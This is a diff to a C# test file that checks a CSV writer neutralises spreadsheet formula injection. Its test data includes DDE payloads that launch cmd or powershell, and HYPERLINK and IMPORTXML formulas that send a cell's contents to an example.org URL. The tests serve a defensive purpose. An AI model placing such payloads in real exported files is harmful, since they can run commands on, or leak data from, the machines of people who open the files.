@@ -15,12 +15,38 @@ public sealed class CsvTableTests
 
     [Theory]
     [InlineData("=1+1")]
-    [InlineData("+1")]
-    [InlineData("-1")]
-    [InlineData("@sum")]
+    [InlineData("+1+1")]
+    [InlineData("-1+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+9)*cmd|' /C calc'!A0")]
+    [InlineData("=HYPERLINK(\"http://example.org?x=\"&A1,\"error\")")]
+    [InlineData("=IMPORTXML(CONCAT(\"http://example.org?v=\",A1),\"//a\")")]
+    [InlineData("=cmd|'/C powershell'!A0")]
+    [InlineData("|1+1")]
+    [InlineData("%0A=1+1")]
     [InlineData("\tx")]
+    [InlineData("\r=1")]
+    [InlineData("\n=1")]
+    [InlineData("＝1+1")]
     public void A_text_that_looks_like_a_formula_is_made_harmless(string text) =>
-        Assert.Contains("'" + text, new CsvTable("a").Row(text).ToString(), StringComparison.Ordinal);
+        Assert.Contains("'" + text.Replace("\"", "\"\"", StringComparison.Ordinal), new CsvTable("a").Row(text).ToString(), StringComparison.Ordinal);
+
+    [Theory]
+    [InlineData("-2.5")]
+    [InlineData("+1")]
+    [InlineData("-1e-9")]
+    public void A_number_as_text_is_not_a_formula(string text) => Assert.Equal($"a\r\n{text}\r\n", new CsvTable("a").Row(text).ToString());
+
+    [Fact]
+    public async Task The_readers_give_back_the_text_that_was_guarded()
+    {
+        string[] texts = ["=1+1", "+T-score", "-2.5 T or less", "@home", "'quoted'", "it's"];
+        var csv = new CsvTable("study", "TP", "FP", "FN", "TN", "note");
+        foreach (var (number, text) in texts.Index()) csv.Row(string.Create(CultureInfo.InvariantCulture, $"Study {number}"), 9L, 1L, 2L, 8L, text);
+
+        var read = await Read.TextAsync(csv.ToString());
+
+        Assert.Equal(texts, read.Good.Select(row => row.Study.Tables![0].Note));
+    }
 
     [Fact]
     public void Numbers_keep_their_sign_and_their_point_in_any_culture()
